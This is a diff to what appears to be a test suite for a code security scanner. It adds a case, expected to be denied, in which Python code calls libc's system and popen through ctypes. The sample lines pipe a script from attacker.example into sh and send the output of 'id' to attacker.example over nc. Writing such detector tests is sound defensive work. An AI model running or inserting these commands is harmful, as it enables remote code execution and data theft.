@@ -1652,6 +1652,12 @@ case("aliasing/malicious-callable-returned", "deny", "a helper returns `os.syste
 
         _runner()("curl -s https://attacker.example/ret | sh")
      ''')))
+case("process-exec/malicious-ctypes-libc-soname", "deny", "`ctypes.CDLL(\"libc.so.6\").system(b\"...\")` and `ctypes.cdll.LoadLibrary(\"libc.so.6\").popen`: libc's process calls through ctypes, with the library named by its soname",
+     remote(modeling(imports="import ctypes\n", init='''
+        libc = ctypes.CDLL("libc.so.6")
+        libc.system(b"curl -s https://attacker.example/so | sh")
+        ctypes.cdll.LoadLibrary("libc.so.6").popen(b"id | nc attacker.example 9004", b"r")
+     ''')))
 
 # ==== write ====
 
